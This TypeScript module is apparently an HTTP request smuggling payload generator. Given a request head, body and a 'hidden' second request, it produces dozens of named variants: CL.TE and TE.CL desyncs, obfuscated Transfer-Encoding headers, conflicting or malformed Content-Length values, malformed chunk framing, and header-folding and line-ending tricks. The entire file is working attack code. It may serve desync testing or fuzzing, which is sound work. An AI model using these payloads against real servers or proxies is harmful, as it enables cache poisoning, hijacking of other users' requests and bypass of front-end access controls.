// Requests with an unclear end, after which another request is hidden.

/** Parts of a form: the head of a request, its valid body, and the hidden request. */
interface Parts {
  readonly head: ReadonlyArray<string>
  readonly body: string
  readonly hidden: string
}

const CRLF = "\r\n"
const LAST = "0\r\n\r\n"
const hex = (text: string): string => Buffer.byteLength(text).toString(16)
const chunk = (text: string): string => `${hex(text)}${CRLF}${text}${CRLF}`
const lengthOf = (text: string): string => `Content-Length: ${Buffer.byteLength(text)}`

const CHUNKED = "Transfer-Encoding: chunked"

/** Ways to write `Transfer-Encoding: chunked` that two programs may read differently. */
const encodings = [
  ...[CHUNKED, "Transfer-Encoding : chunked", "Transfer-Encoding:\tchunked", "Transfer-Encoding:chunked"],
  ...["Transfer-Encoding: xchunked", "Transfer-Encoding: chunKed", `Transfer-Encoding: x\r\n${CHUNKED}`],
  ...[`${CHUNKED}\r\nTransfer-Encoding: x`, "Transfer-Encoding\r\n : chunked", "Transfer-Encoding:\r\n chunked"],
  ...[`X: y\n${CHUNKED}`, `X: y\r${CHUNKED}`, ` ${CHUNKED}`, `${CHUNKED}, identity`, `${CHUNKED}, chunked`],
  ...["Transfer-Encoding: identity, chunked", 'Transfer-Encoding: "chunked"', "Transfer-Encoding: \u000bchunked"],
  ...[`${CHUNKED}\u0000`, "Transfer_Encoding: chunked", `${CHUNKED};q=1`, "Transfer-Encoding: gzip, chunked"],
  ...["Transfer-Encoding:\u00a0chunked", "Transfer-Encoding: ,chunked"]
]

/** Ways to write a length, given the real one and a shorter one. */
const lengthsOf = (real: number, short: number): ReadonlyArray<string> => [
  ...[`Content-Length: ${short}\r\nContent-Length: ${real}`, `Content-Length: ${real}\r\nContent-Length: ${short}`],
  ...[`Content-Length: ${short}, ${real}`, `Content-Length: ${real}, ${real}`, `Content-Length: +${short}`],
  ...[`Content-Length: -${short}`, `Content-Length: 0x${short.toString(16)}`, `Content-Length: 0${short}`],
  ...[`Content-Length : ${real}\r\nContent-Length: ${short}`, `Content-Length: ${short}\r\nContent-Length\0: ${real}`],
  ...[`Content-Length:\r\n ${real}\r\nX-Length: ${short}`, `Content-Length: ${short}\u000b`, "Content-Length:"],
  ...[`X: y\nContent-Length: ${real}\r\nContent-Length: ${short}`, `Content-Length: ${short} ${short}`],
  ...[`Content_Length: ${real}`, `Content-Length: ${short}.0`, "Content-Length: 0", `Content-Length: ${short}`],
  "Content-Length: 18446744073709551616"
]

/** Ways to write chunks that hide a request. */
const chunksOf = (body: string, hidden: string): ReadonlyArray<string> => [
  `${chunk(body)}${LAST}${hidden}`,
  `${hex(body)};a=b${CRLF}${body}${CRLF}${LAST}${hidden}`,
  `${hex(body)};\n${body}${CRLF}${LAST}${hidden}`,
  `2;\nxx${CRLF}${hex(hidden)}${CRLF}${body}${LAST}${hidden}`,
  `${hex(body)}\n${body}\n0\n\n${hidden}`,
  ...["0x", "+", `1${"0".repeat(15)}`].map((prefix) => `${prefix}${chunk(body)}${LAST}${hidden}`),
  `${hex(body)} ${CRLF}${body}${CRLF}${LAST}${hidden}`,
  `${hex(body)}\r${body}\r${LAST}${hidden}`,
  `${hex(body)}${CRLF}${body}XX${LAST}${hidden}`,
  `${chunk(body)}0${CRLF}Content-Length: 5${CRLF}${CRLF}${hidden}`,
  `${chunk(body)}0${CRLF}X: y\n${CRLF}${hidden}`,
  `${chunk(body)}0${CRLF}${hidden}`,
  `${chunk(body)}00000${CRLF}${CRLF}${hidden}`,
  `${chunk(body)}0;${hidden.split(CRLF)[0]}${CRLF}${CRLF}${hidden}`
]

const request = (head: ReadonlyArray<string>, body: string): string => [...head, "", body].join(CRLF)

/** Other first lines and headers, in front of a hidden request. */
const headsOf = ({ body, head, hidden }: Parts): ReadonlyArray<string> => {
  const [start = "", ...rest] = head
  const both = body + hidden
  return [
    ...["GET", "HEAD", "OPTIONS"].map((verb) =>
      request([start.replace("POST", verb), ...rest, lengthOf(hidden)], hidden)
    ),
    request([start.replace("POST", "GET"), ...rest], hidden),
    request([start.replace("1.1", "1.0"), ...rest, CHUNKED], `${chunk(body)}${LAST}${hidden}`),
    request([start.replace(" HTTP/1.1", ""), ...rest], hidden),
    request([`${start}\r`, ...rest, lengthOf(body)], both),
    request([start.replace(" /", "  /"), ...rest, lengthOf(body)], both),
    request(["", "", ...head, lengthOf(body)], both),
    request([...head, lengthOf(body)], both).replaceAll(CRLF, "\n"),
    request([...head, "Expect: 100-continue", lengthOf(both), CHUNKED], LAST + hidden),
    request([...head, "Connection: content-length", lengthOf(body)], both),
    request([...head, "Connection: transfer-encoding", CHUNKED, lengthOf(body)], LAST + hidden),
    request([...head, "Upgrade: h2c", "Connection: upgrade", lengthOf(body)], both),
    ...["\n\n", "\r\r"].map((end) => request([...head, `X: y${end}${hidden}`, lengthOf(body)], body)),
    request([...head, `X: y\r\n ${hidden.replaceAll(CRLF, "\r\n ")}`, lengthOf(body)], body)
  ]
}

const named = (kind: string, texts: ReadonlyArray<string>) => texts.map((text, at) => ({ name: `${kind} ${at}`, text }))

/** Returns every form with its name. */
export const formsOf = (parts: Parts): ReadonlyArray<{ readonly name: string; readonly text: string }> => {
  const { body, head, hidden } = parts
  const size = `${hex(hidden)}${CRLF}`
  const shorter = `Content-Length: ${size.length}`
  const lengths = lengthsOf(Buffer.byteLength(body + hidden), Buffer.byteLength(body))
  return [
    ...named(
      "CL.TE",
      encodings.map((each) => request([...head, lengthOf(LAST + hidden), each], LAST + hidden))
    ),
    ...named(
      "TE.CL",
      encodings.map((each) => request([...head, each, shorter], `${size}${hidden}${CRLF}${LAST}`))
    ),
    ...named(
      "length",
      lengths.map((each) => request([...head, each], body + hidden))
    ),
    ...named(
      "chunk",
      chunksOf(body, hidden).map((each) => request([...head, CHUNKED], each))
    ),
    ...named("head", headsOf(parts))
  ]
}
